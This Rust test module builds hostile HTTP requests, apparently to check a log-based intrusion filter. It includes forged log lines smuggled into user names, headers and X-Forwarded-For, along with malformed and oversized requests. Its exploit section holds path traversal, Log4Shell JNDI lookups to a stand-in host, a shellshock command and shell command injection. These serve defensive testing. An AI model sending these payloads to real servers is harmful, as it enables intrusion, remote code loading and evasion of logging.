//! The hostile requests: what clients write where, to look like somebody else or like nothing.

use super::requests::{Hostile, VICTIM};
use super::spellings::spellings;

/// All of them, for any server; some ask for innocent things in a hostile way, and are no offence.
pub(super) fn all() -> Vec<Hostile> {
    let kinds =
        [users(), fields(), chains(), spellings(), garbage(), protocols(), long(), exploits(), innocent()];
    kinds.concat()
}

/// Lines of other requests, as each server would write them; and what could end a field or a line.
fn texts() -> Vec<Vec<u8>> {
    let line = format!(
        "{VICTIM} - - [01/May/2026:10:00:00 +0000] \"POST /wp-login.php HTTP/1.1\" 200 1234 \"-\" \"Mozilla/5.0\""
    );
    let haproxy = format!(
        "May  1 10:00:00 lb haproxy[7]: {VICTIM}:4711 [01/May/2026:10:00:00.123] site server/one 0/0/0/0/0 401 5 - - ---- 1/1/0/0/0 0/0 \"POST /wp-login.php HTTP/1.1\""
    );
    let escaped = line.replace('"', "\\x22");
    [
        line.clone(),
        haproxy,
        escaped,
        format!("shop.example:80 {line}"),
        format!("\" 200 5 \"-\" \"-\" {line}"),
        format!("x\\\" 200 5 \\\"-\\\" \\\"-\\\"\\n{line}"),
        format!("{VICTIM} - admin [01/Jan/2001:00:00:00 +0000] \""),
        "\"".to_owned(),
        "\\".to_owned(),
        "a\\\\\"".to_owned(),
        "\\x22 \\n \\\" \\x5c".to_owned(),
    ]
    .map(String::into_bytes)
    .into_iter()
    .chain([
        b"\xff\xfe\xc3\x28\x80".to_vec(),
        b"\xc3\xa4\xe2\x82\xac\xf0\x9f\x98\x80".to_vec(),
        b"a\tb".to_vec(),
        b"\x01\x02\x08\x0b\x1b[2J\x7f".to_vec(),
    ])
    .collect()
}

/// User names, which anybody chooses, and which no server escapes blanks and brackets in.
fn users() -> Vec<Hostile> {
    let date = "[20/Nov/2026:15:51:57 +0000]";
    let own = [
        "alice".to_owned(),
        "bob [x] \"GET / HTTP/1.1\" 200".to_owned(),
        " ".to_owned(),
        "  two  blanks ".to_owned(),
        date.to_owned(),
        format!(" {date} "),
        format!("- {date} \"GET / HTTP/1.1\" 200 5 \"-\" \"-\""),
        format!("] {date} \""),
        VICTIM.to_owned(),
        format!("{VICTIM} - -"),
        "\"\"".to_owned(),
        "\"\" ".to_owned(),
        "- ".to_owned(),
        "--".to_owned(),
        "[".to_owned(),
        "]".to_owned(),
        format!("\n{VICTIM} - - {date} \"POST /wp-login.php HTTP/1.1\" 200 5 \"-\" \"-\"\n"),
        format!("\r\n{VICTIM} - - {date} \"POST /wp-login.php HTTP/1.1\" 200 5 \"-\" \"-\"\r"),
        "x\0y".to_owned(),
        "a".repeat(3000),
    ];
    let names: Vec<Vec<u8>> = own.map(String::into_bytes).into_iter().chain(texts()).collect();
    let ask = |user: &Vec<u8>| {
        let name = |what: &str| format!("{what} as the user {:?}", lossy(user));
        [
            Hostile::get(&name("a page"), b"/private/").user(user, "guess"),
            Hostile::login(&name("a log-in"), b"/wp-login.php").user(user, "guess"),
            // A Basic user ends at a colon; this one holds whole dates. nginx has no such page.
            Hostile::get(&name("digest"), b"/digest/").digest(user),
        ]
    };
    let mut asked: Vec<Hostile> = names.iter().flat_map(ask).collect();
    asked.extend([
        Hostile::get("no user", b"/private/"),
        Hostile::get("an empty user", b"/private/").user(b"", "guess"),
        // In the log a user `-` cannot be told from none, so who guesses for `-` guesses for nobody.
        Hostile::get("the user -", b"/private/").user(b"-", "guess"),
        Hostile::get("the right password", b"/private/").user(b"admin", "right"),
        Hostile::get("the wrong password", b"/private/").user(b"admin", "wrong"),
        Hostile::get("a log-in that is no POST", b"/wp-login.php").user(b"POST /wp-login.php HTTP/1.1", "x"),
    ]);
    asked
}

/// Every text in Referer and User-Agent, of a log-in and of a request for nothing bad.
fn fields() -> Vec<Hostile> {
    let ask = |text: &Vec<u8>| {
        ["Referer", "User-Agent"].map(|header| {
            let name = |what: &str| format!("{what} with {header} {:?}", lossy(text));
            [
                Hostile::login(&name("a log-in"), b"/wp-login.php").header(header, text),
                Hostile::get(&name("the front page"), b"/").header(header, text),
            ]
        })
    };
    let folded =
        format!("a\r\n {VICTIM} - - [01/May/2026:10:00:00 +0000] \"GET /.env HTTP/1.1\" 404 5 \"-\" \"-\"");
    let mut asked: Vec<Hostile> = texts().iter().flat_map(ask).flatten().collect();
    asked.extend([
        Hostile::login("a folded Referer", b"/wp-login.php").header("Referer", folded.as_bytes()),
        Hostile::login("a User-Agent cut by NUL", b"/wp-login.php").header("User-Agent", b"a\0b"),
        Hostile::login("a User-Agent cut by CR", b"/wp-login.php").header("User-Agent", b"a\rb"),
        Hostile::login("no Host", b"/wp-login.php").without_host(),
        Hostile::login("a Host with a blank", b"/wp-login.php").without_host().header("Host", b"x y"),
        Hostile::login("two Hosts", b"/wp-login.php").header("Host", b"other"),
        Hostile::login("no name", b"/wp-login.php").header("", b"x"),
        Hostile::login("a blank before the colon", b"/wp-login.php").header("Referer ", b"x"),
    ]);
    // What a query says is not a path; in it, no quote and no blank comes through.
    asked.extend(texts().iter().flat_map(|text| {
        let query: Vec<u8> = [b"/?q=", &text[..]].concat();
        let plain: Vec<u8> = query.iter().map(|byte| if *byte == b' ' { b'+' } else { *byte }).collect();
        let login: Vec<u8> = [b"/wp-login.php", &plain[1..]].concat();
        [
            Hostile::get(&format!("a query {:?}", lossy(&query)), &query),
            Hostile::get(&format!("a query {:?}", lossy(&plain)), &plain),
            Hostile::login(&format!("a log-in with {:?}", lossy(&plain)), &login),
        ]
    }));
    asked
}

/// What a client says in X-Forwarded-For before the proxy appends it, and what no proxy should pass on.
fn chains() -> Vec<Hostile> {
    let own = [
        VICTIM.to_owned(),
        format!("{VICTIM}, 203.0.113.67"),
        format!("[2001:db8::66]:443, {VICTIM}:80"),
        format!("::ffff:{VICTIM}"),
        "127.0.0.1".to_owned(),
        "unknown".to_owned(),
        "_hidden, -".to_owned(),
        ",,, ,".to_owned(),
        "fe80::1%eth0".to_owned(),
        [VICTIM; 200].join(", "),
    ];
    let said: Vec<Vec<u8>> = own.map(String::into_bytes).into_iter().chain(texts()).collect();
    let ask = |said: &Vec<u8>| {
        let name = |what: &str| format!("{what} {:?}", lossy(said));
        [
            Hostile::login(&name("a chain that begins with"), b"/wp-login.php").said(said),
            Hostile::login(&name("another header with"), b"/wp-login.php").said_before(said),
            Hostile::login(&name("a proxy that passes on"), b"/wp-login.php")
                .passed_on(&[said, &b", junk"[..]].concat()),
        ]
    };
    said.iter().flat_map(ask).collect()
}

/// First lines that are no HTTP.
fn garbage() -> Vec<Hostile> {
    let tls = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x9f\x22\x5c\x0d\x41\x80\xc0\x2b\xc0\x2f\x00\n";
    let fake = format!("{VICTIM} - - [01/May/2026:10:00:00 +0000] \"POST /wp-login.php HTTP/1.1\" 200 5\r\n");
    let lines: [(&str, &[u8]); 14] = [
        ("TLS", tls),
        ("SSL 2", b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10\n"),
        ("SOCKS 5", b"\x05\x01\x00\n"),
        ("SOCKS 4", b"\x04\x01\x00P\x08\x08\x08\x08\x00\n"),
        ("RDP", b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"),
        ("SSH", b"SSH-2.0-Go\r\n\r\n"),
        ("a fake line", fake.as_bytes()),
        (
            "a quoted fake line",
            b"\"x\" 203.0.113.66 - - [01/May/2026:10:00:00 +0000] \"GET /.env HTTP/1.1\" 404\r\n",
        ),
        ("a word", b"HELP\r\n\r\n"),
        ("two words", b"hello world\r\n\r\n"),
        ("bytes", b"\xff\xfe\xfd \xfc\r\n\r\n"),
        ("a quote", b"\"\r\n\r\n"),
        ("a backslash", b"\\\r\n\r\n"),
        ("SIP", b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\n\r\n"),
    ];
    lines.map(|(name, bytes)| Hostile::raw(name, bytes).but(|is| is.garbage = true)).into()
}

/// Old, odd and broken versions of HTTP; nothing at all.
fn protocols() -> Vec<Hostile> {
    let get = |name: &str, bytes: &[u8]| Hostile::raw(name, bytes);
    vec![
        get("HTTP/0.9", b"GET /.env\r\n").but(|is| is.asks_secret = true),
        get("HTTP/0.9 with a bare LF", b"GET /.env\n").but(|is| is.asks_secret = true),
        get("HTTP/0.9 for nothing bad", b"GET /\n"),
        get("HTTP/0.9 for nothing there", b"GET /nothing\n"),
        get("HTTP/0.9 with POST", b"POST /wp-login.php\n"),
        get("HTTP/0.9 with a quote", b"GET /\"\\\n"),
        get("bare LFs", b"POST /wp-login.php HTTP/1.1\nHost: h\nConnection: close\n\n"),
        get(
            "blank lines first",
            b"\r\n\r\nPOST /wp-login.php HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n",
        )
        .but(|is| is.post = true),
        Hostile::line("HTTP/1.0", b"POST /wp-login.php HTTP/1.0"),
        Hostile::line("HTTP/1.0 without a host", b"POST /wp-login.php HTTP/1.0").without_host(),
        Hostile::line("HTTP/1.9", b"POST /wp-login.php HTTP/1.9"),
        Hostile::line("HTTP/2.0", b"POST /wp-login.php HTTP/2.0"),
        Hostile::line("HTTP/9.9", b"GET /.env HTTP/9.9").but(|is| is.asks_secret = true),
        Hostile::line("http/1.1", b"GET /.env http/1.1").but(|is| is.asks_secret = true),
        Hostile::line("a blank behind the version", b"POST /wp-login.php HTTP/1.1 "),
        Hostile::line("a small method", b"post /wp-login.php HTTP/1.1"),
        Hostile::line("a long method", &[&[b'A'; 200][..], b" /.env HTTP/1.1"].concat())
            .but(|is| is.asks_secret = true),
        Hostile::line("an odd method", b"G-E_T /.env HTTP/1.1").but(|is| is.asks_secret = true),
        // Apache does not log the version then: what it logs is no HTTP.
        Hostile::line("two methods", b"GET POST /wp-login.php HTTP/1.1")
            .but(|is| is.garbage_to_apache = true),
        Hostile::line("a method with a quote", b"G\"T /.env HTTP/1.1").but(|is| is.garbage = true),
        get("HTTP/2 without being asked", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"),
        get("nothing", b""),
        get("a blank line", b"\r\n"),
        get("a cut line", b"GET /.en"),
        get("cut headers", b"POST /wp-login.php HTTP/1.1\r\nHost: loc"),
    ]
}

/// As long as servers take it, or longer; what is escaped becomes four times as long in the log.
fn long() -> Vec<Hostile> {
    let target = |byte: u8, length: usize| [&b"/wp-login.php?"[..], &vec![byte; length]].concat();
    let mut asked = Vec::new();
    for length in [4_000, 8_100, 8_300, 64 << 10] {
        for byte in [b'x', b'%', b'"', 0xff] {
            let name = format!("{length} bytes {:?}", lossy(&[byte]));
            asked.push(Hostile::login(&name, &target(byte, length)));
        }
    }
    let quotes = vec![b'"'; 64 << 10];
    asked.push(
        Hostile::login("64 kB in each field", &target(0xff, 64 << 10))
            .header("Referer", &quotes)
            .header("User-Agent", &quotes),
    );
    let deep = b"/x/..".repeat(1_500);
    asked.push(Hostile::login("a path of dot segments", &[&deep[..], b"/wp-login.php"].concat()));
    asked.push(Hostile::login("a path of slashes", &[&b"/".repeat(8_000)[..], b"wp-login.php"].concat()));
    asked.push(Hostile::login("a path of escapes", &[&b"/%2e".repeat(1_900)[..], b"/wp-login.php"].concat()));
    asked
}

/// What can only be an attack, in the places where the filter looks.
fn exploits() -> Vec<Hostile> {
    let asked = [
        Hostile::get("traversal", b"/../../../../etc/passwd"),
        Hostile::get("hidden traversal", b"/cgi-bin/.%2e/%2e%2e/%2E./.%2e/etc/passwd"),
        Hostile::get("double traversal", b"/%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"),
        Hostile::get("traversal in a query", b"/?f=..%2f..%2f..%2f..%2fetc%2fpasswd"),
        Hostile::get("a look-up in a query", b"/?x=%24%7bjndi:ldap://203.0.113.66/a%7d"),
        Hostile::get("a raw look-up", b"/?x=${jndi:ldap://203.0.113.66/a}"),
        Hostile::get("a look-up in User-Agent", b"/").header("User-Agent", b"${jndi:ldap://203.0.113.66/a}"),
        Hostile::get("a look-up behind quotes", b"/")
            .header("User-Agent", b"\"\\\" ${jndi:ldap://203.0.113.66/a}"),
        Hostile::get("a look-up in Referer", b"/")
            .header("Referer", b"\xff\" 200 5 \"${jndi:rmi://203.0.113.66}"),
        Hostile::get("shellshock", b"/").header("User-Agent", b"() { :;}; /bin/bash -c \"id\""),
        Hostile::get("a command", b"/?host=127.0.0.1;cat+/etc/hosts"),
        Hostile::line("CONNECT", b"CONNECT mail.example:25 HTTP/1.1"),
        Hostile::line("a proxy is meant", b"GET http://www.google.com/ HTTP/1.1"),
    ];
    asked.map(|hostile| hostile.but(|is| is.exploit = true)).into()
}

/// What no filter may take for an offence, and requests that fail for reasons of their own.
fn innocent() -> Vec<Hostile> {
    vec![
        Hostile::get("the front page", b"/"),
        Hostile::get("the log-in form", b"/wp-login.php"),
        Hostile::get("a search for paths", b"/?s=wp-login.php+.env+.git/config"),
        Hostile::get("a missing page", b"/nothing"),
        Hostile::get("a missing picture", b"/x.png").but(|is| is.fixed = true),
        Hostile::get("a missing picture, spelled", b"//x/../%78.PN%47?v=1").but(|is| is.fixed = true),
        Hostile::get("a picture in a query", b"/nothing?x=/x.png"),
        Hostile::get("a missing icon", b"/favicon.ico").but(|is| is.fixed = true),
        Hostile::line("a HEAD of the log-in form", b"HEAD /wp-login.php HTTP/1.1"),
        Hostile::line("OPTIONS", b"OPTIONS * HTTP/1.1"),
    ]
}

fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(&bytes[..bytes.len().min(60)]).into_owned()
}
